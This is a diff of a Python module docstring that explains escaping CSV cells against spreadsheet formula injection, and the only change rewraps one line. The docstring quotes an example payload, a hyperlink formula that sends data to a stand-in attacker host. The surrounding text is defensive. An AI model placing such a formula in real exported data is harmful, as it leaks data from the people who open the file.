@@ -5,7 +5,8 @@ A text cell (or column name) starting with ``=``, ``+``, ``-``, ``@``, a tab or 
 quote in front: ``=hyperlink("http://evil.example/?leak","x")`` is written ``'=hyperlink(...)``, shown as text by
 Excel, LibreOffice and Google Sheets. Numbers are never touched (``-1.5`` stays a number); only text is. Words
 of a member's corpus reach other users' CSVs (Explore's cluster and detail CSVs, the SQL console), so no
-export may skip this. Rows end with CRLF (RFC 4180). Hand-written: pandas' ``to_csv`` has no such option, and the rule is one line.
+export may skip this. Rows end with CRLF (RFC 4180). Hand-written: pandas' ``to_csv`` has no such option, and
+the rule is one line.
 """
 from __future__ import annotations
 
